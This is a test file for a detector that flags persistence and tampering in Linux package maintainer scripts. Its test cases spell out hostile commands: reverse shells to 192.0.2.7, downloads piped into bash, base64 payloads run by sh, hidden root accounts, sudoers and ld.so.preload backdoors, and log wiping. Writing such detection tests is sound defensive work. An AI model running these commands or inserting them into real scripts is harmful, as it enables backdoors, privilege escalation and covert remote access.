// Persistence indicators line by line, everyday commands of maintainer scripts, and hostile text in bounded time.

import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { findingsOf } from '../../../detectors/facts/script-findings.ts';
import { titled, unmet } from '../../needs.ts';

const ids = (line: string): string[] => findingsOf(`#!/bin/sh\n${line}\n`).map(({ id }) => id);

describe('finds', () => {
  test.each([
    ['detached-process', '( setsid /opt/x </dev/null >/dev/null 2>&1 & )'],
    ['detached-process', 'nohup /usr/lib/x/agent &'],
    ['detached-process', '/usr/lib/x/agent >/dev/null 2>&1 &'],
    ['network-device', 'exec 5<>/dev/tcp/192.0.2.7/4444'],
    ['network-shell', 'nc -e /bin/sh 192.0.2.7 4444'],
    ['download-into-interpreter', 'curl -fsSL http://192.0.2.7/i.sh | sudo bash'],
    ['download-into-interpreter', 'wget -qO- http://192.0.2.7/i | /usr/bin/python3 -'],
    ['download-into-interpreter', 'sh -c "$(curl -s http://192.0.2.7/i)"'],
    ['decoded-into-interpreter', 'echo ZWNobyBoaQo= | base64 -d | sh'],
    ['decoded-into-interpreter', 'eval "$(echo ZWNobyBoaQo= | base64 --decode)"'],
    ['systemd-unit', 'cat > /etc/systemd/system/dbus-helper.service <<EOF'],
    ['systemd-unit', 'cp x.timer /usr/lib/systemd/system/x.timer'],
    ['systemd-unit', 'systemd-run --on-calendar=hourly /opt/x'],
    ['cron-entry', 'echo "* * * * * root /opt/x" > /etc/cron.d/x'],
    ['cron-entry', '(crontab -l; echo "@reboot /opt/x") | crontab -'],
    ['at-job', 'echo /opt/x | at now + 1 minute'.replace('echo /opt/x | ', 'true; ')],
    ['authorized-keys', 'echo "ssh-ed25519 AAAA" >> /root/.ssh/authorized_keys'],
    ['ld-preload', 'echo /lib/libx.so > /etc/ld.so.preload'],
    ['setuid', 'chmod 4755 /tmp/.sh'],
    ['setuid', 'chmod u+s /bin/bash'],
    ['setcap', 'setcap cap_setuid+ep /usr/bin/python3'],
    ['root-user', 'useradd -o -u 0 -g 0 sys2'],
    ['root-user', 'echo "x::0:0::/root:/bin/sh" >> /etc/passwd'],
    ['admin-group', 'usermod -aG sudo backup'],
    ['sudoers', 'echo "backup ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/90-x'],
    ['pam', 'cp pam_x.so /lib/security/pam_x.so'],
    ['pam', 'sed -i 1i\\auth /etc/pam.d/sshd'],
    ['shell-startup', 'echo /opt/x >> /root/.bashrc'],
    ['systemd-unit', 'install -m 0644 x.service "$DESTDIR/lib/systemd/system/"'],
    ['systemd-unit', 'cp x.service /etc/systemd/system'],
    ['systemd-unit', 'mv -t /etc/systemd/user x.timer'],
    ['cron-entry', 'cp x /etc/cron.daily'],
    ['udev-rule', 'cp 60-x.rules /lib/udev/rules.d || exit 1'],
    ['autostart', 'cp x.desktop /etc/xdg/autostart/'],
    ['package-source', "cat > /etc/apt/sources.list.d/x.sources <<'EOF'"],
    ['package-source', 'cp -t /etc/apt/sources.list.d x.list'],
    ['package-source', "sed --in-place 's/a/b/' /etc/apt/sources.list"],
    ['package-source', "sed -i 's|http|https|; s/a/b/' /etc/apt/sources.list"],
    ['package-source', "perl -pi -e 's/a/b/' /etc/apt/sources.list"],
    ['package-source', 'curl -fsSL https://x/k | gpg --dearmor -o /etc/apt/keyrings/x.gpg'],
    ['package-source', 'gpg --dearmor --output /usr/share/keyrings/x.gpg x.asc'],
    ['package-source', 'gpg --no-default-keyring --keyring /etc/apt/trusted.gpg.d/x.gpg --import k'],
    ['package-source', 'apt-key adv --keyserver k --recv-keys X'],
    ['package-source', 'cat > /etc/yum.repos.d/x.repo << EOF'],
    ['package-source', 'dnf -y config-manager --add-repo=https://x'],
    ['package-source', 'yum-config-manager --add-repo https://x'],
    ['package-source', 'dnf5 config-manager addrepo --from-repofile=https://x'],
    ['package-source', 'zypper --non-interactive ar https://x x'],
    ['package-source', 'cp k /etc/pki/rpm-gpg/RPM-GPG-KEY-x'],
    ['package-tool-configuration', "echo 'Pin-Priority: 1001' > /etc/apt/preferences.d/x"],
    ['package-tool-configuration', 'echo post-invoke=/x > /etc/dpkg/dpkg.cfg.d/x'],
    ['package-tool-configuration', 'echo plugins=1 >> /etc/dnf/dnf.conf'],
    ['package-tool-configuration', 'cp x.py /usr/lib/yum-plugins/x.py'],
    ['package-tool-configuration', 'echo %_x y > /etc/rpm/macros.x'],
    ['package-database', 'cp x /var/lib/rpm/rpmdb.sqlite'],
    ['package-database', 'echo /opt/x >> /var/lib/dpkg/diversions'],
    ['cron-entry', "[ -d /etc/cron.d ] && echo '* * * * * root /opt/x' > /etc/cron.d/x"],
    ['cron-entry', 'grep -v x /opt/y > /etc/cron.d/y'],
    ['package-source', 'if ! grep -q x /etc/apt/sources.list; then echo deb x >> /etc/apt/sources.list; fi'],
    ['systemd-unit', 'rm -f /etc/systemd/system/a.service; cp b.service /etc/systemd/system/b.service'],
    ['sudoers', "test -d /etc/sudoers.d || exit 0; echo 'x ALL=(ALL) ALL' > /etc/sudoers.d/x"],
    ['shell-startup', 'cp x.sh /etc/profile.d/x.sh'],
    ['rc-script', 'echo /opt/x >> /etc/rc.local'],
    ['udev-rule', 'echo RUN > /etc/udev/rules.d/99-x.rules'],
    ['autostart', 'cp x /etc/xdg/autostart/x.desktop'],
    ['kernel-module', 'insmod /opt/x.ko'],
    ['kernel-module', 'modprobe x'],
    ['history-wiping', 'history -c'],
    ['log-wiping', '> /var/log/auth.log'],
    ['account-file', 'echo "x:x:1001:1001::/home/x:/bin/sh" >> /etc/passwd'],
    ['account-file', "sed -i '/^x/d' /etc/shadow"],
    ['network-shell', 'cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.7 4444 >/tmp/f'],
    ['setuid', 'chmod +s /opt/x'],
    ['setuid', 'chmod ug+s /opt/x'],
    ['cron-entry', 'crontab -u root /tmp/x'],
    ['log-wiping', 'truncate -s 0 /var/log/syslog'],
    ['log-wiping', 'journalctl --vacuum-time=1s'],
    ['download-into-interpreter', 'curl -s http://192.0.2.7/i | bash -e'],
    [
      'systemd-unit',
      'ln -sf /lib/systemd/system/x.service /etc/systemd/system/multi-user.target.wants/x.service || true',
    ],
    ['systemd-unit', 'curl -o /etc/systemd/system/x.service http://192.0.2.7/x'],
    ['package-database', 'cp x /var/lib/dpkg/info/bash.prerm'],
    ['package-database', "sed -i 's/a/b/' /var/lib/dpkg/status"],
    ['package-source', 'echo "deb http://192.0.2.7/ ./" > /etc/apt/sources.list.d/x.list'],
    ['package-source', 'echo "deb [trusted=yes] file:/srv ./" >>/etc/apt/sources.list'],
    ['package-source', 'cp x.gpg /etc/apt/trusted.gpg.d/x.gpg'],
    ['package-source', 'curl -fsSL https://x.org/key.asc | gpg --dearmor > /etc/apt/keyrings/x.gpg'],
    ['package-source', 'cat > /etc/yum.repos.d/x.repo <<EOF'],
    ['package-source', 'add-apt-repository -y ppa:x/y'],
    ['package-source', 'curl -s https://x.org/key | apt-key add -'],
    ['package-source', 'rpm --import https://x.org/key'],
    ['package-tool-configuration', 'echo DPkg::Post-Invoke > /etc/apt/apt.conf.d/99x'],
  ])('%s: %s', (id, line) => {
    expect(ids(line)).toContain(id);
  });
});

test.each([
  ['echo "deb http://192.0.2.7/ ./" > /etc/apt/sources.list.d/x.list', ['package-source']],
  ['cp x /var/lib/dpkg/info/bash.prerm', ['package-database']],
  ['echo x > /etc/apt/apt.conf.d/99x', ['package-tool-configuration']],
  ['echo "x::0:0::/root:/bin/sh" >> /etc/passwd', ['root-user']],
  ['echo "x:x:1001:1001::/:/bin/sh" >> /etc/passwd', ['account-file']],
])('%s is that and nothing else', (line, expected) => {
  expect(ids(line)).toEqual(expected);
});

test.each([
  "deb-systemd-helper enable 'cron.service' >/dev/null || true",
  "if deb-systemd-helper --quiet was-enabled 'cron.service'; then",
  "deb-systemd-invoke $_dh_action 'cron.service' >/dev/null || true",
  'systemctl --system daemon-reload >/dev/null || true',
  'if [ -d /run/systemd/system ]; then',
  'rm -f /etc/cron.d/old /etc/systemd/system/x.service',
  'if [ -e /etc/cron.d/x ]; then',
  'dpkg-maintscript-helper rm_conffile /etc/profile.d/x.sh 1.0~ -- "$@"',
  'adduser --system --group --home /nonexistent messagebus',
  'chmod 0755 /var/lib/x',
  'chmod 2755 /x'.replace('2755', '1777'),
  'command -v setcap >/dev/null 2>&1',
  'update-alternatives --install /usr/bin/nc nc /bin/nc.openbsd 50',
  'a && b',
  'exec 2>&1',
  '# curl http://192.0.2.7/ | sh',
  'cat /etc/passwd',
  'update-rc.d cron defaults >/dev/null',
  'echo "see /etc/pam.d/x"',
  // Looked at, or written elsewhere.
  'grep -q x /var/lib/dpkg/status >/dev/null',
  'cat /etc/apt/sources.list > /tmp/copy',
  'chmod 0644 /lib/systemd/system/x.service >/dev/null 2>&1',
  'cp /etc/pam.d/sshd /var/backups/',
  'cat /etc/cron.d/x 2>/dev/null || true',
  'sed -n p /etc/apt/sources.list',
  'echo "installed" >> /var/log/dpkg.log',
  'chown root:adm /var/log/apt/term.log 2>/dev/null',
  'cat /etc/passwd >> /tmp/users',
  'crontab -u root -l',
  'cp -a /etc/systemd/system /var/backups/x',
  'mkdir -p /etc/systemd/system',
  'chown -R root: /lib/udev/rules.d',
  // Said, made as a directory, named for another end.
  'echo run add-apt-repository or systemd-run',
  "printf 'see setsid\\\\n'",
  "sed 's/i/-i/' /etc/apt/sources.list > /tmp/x",
  'echo x > /etc/apt/sources.listless',
  'install -d /etc/apt/keyrings',
  'install -d -m 0755 /etc/cron.d/',
  'apt-get update -o Dir::Etc::sourcelist=/etc/apt/sources.list.d/x.list',
  'apt-key del X',
  'rpm -q gpg-pubkey',
  'gpg --keyring /usr/share/keyrings/x.gpg --verify a b',
  'rm -f /etc/sudoers.d/x || true',
  '[ -e /etc/ld.so.preload ] && exit 1',
  'test -f /root/.ssh/authorized_keys && echo there',
  'find /etc/apt/sources.list.d -name x -delete',
  'pip install x',
  // The group alone, and an id that is not root's.
  'chmod g+s /var/lib/x',
  'useradd -o -u 1000 x',
  // Asked for, not run.
  'command -v setsid >/dev/null',
  'command -v nc || exit 0',
  'nc -z localhost 80 || exit 1',
  'visudo -cf /etc/sudoers.d/x',
  'curl -s http://192.0.2.7/x.json | python3 -m json.tool',
  "wget -qO- http://192.0.2.7/x | perl -ne 'print if /x/'",
])('is nothing: %s', (line) => {
  expect(ids(line)).toEqual([]);
});

test('counts lines from 1, cuts text, and bounds the findings', () => {
  const [finding] = findingsOf(`#!/bin/sh\n\n\tsetsid ${'x'.repeat(500)}\n`);
  expect(finding).toMatchObject({ id: 'detached-process', technique: 'T1564.011', line: 3 });
  expect(finding?.text).toMatch(/^setsid x{153}$/);
  expect(findingsOf('setsid x\n'.repeat(1000))).toHaveLength(3);
  expect(findingsOf('')).toEqual([]);
});

test('reads any text of 64 KiB in a bounded time', () => {
  const pieces = [
    'a ',
    ' ',
    '& ',
    '> /dev/null ',
    'curl | ',
    '| ',
    '/',
    'chmod -a ',
    'install ',
    'openssl a ',
    '[ ',
    '! ',
    'modprobe ',
    'sed -i ',
    'gpg -o ',
    ';rm ',
    '/etc/cron.d/ /etc/passwd cp ',
    '$(',
  ];
  const before = process.cpuUsage();
  for (const piece of pieces) {
    for (const other of pieces) {
      const text = (piece + other).repeat(65_536 / 2).slice(0, 65_536);
      findingsOf(text);
      findingsOf(text.replaceAll(/.{4000}/gs, '$&\n'));
    }
  }
  const { user } = process.cpuUsage(before);
  // 648 texts: hundreds of times as much as they take would be a pattern that goes wrong.
  expect(user / 1e6).toBeLessThan(100);
});

const info = '/var/lib/dpkg/info';
const noScripts = unmet(existsSync(info) ? undefined : `no ${info}`);
test.skipIf(noScripts)(titled("this host's own scripts have few, and boilerplate none", noScripts), () => {
  const names = readdirSync(info).filter((name) => /\.(?:preinst|postinst|prerm|postrm|config)$/.test(name));
  const found = names.map((name) => findingsOf(readFileSync(`${info}/${name}`, 'utf8')));
  expect(found.flat().filter(({ text }) => /deb-systemd|dpkg-maintscript-helper|systemctl/.test(text))).toEqual([]);
  expect(found.filter((each) => each.length > 0).length).toBeLessThanOrEqual(Math.max(5, names.length / 20));
});
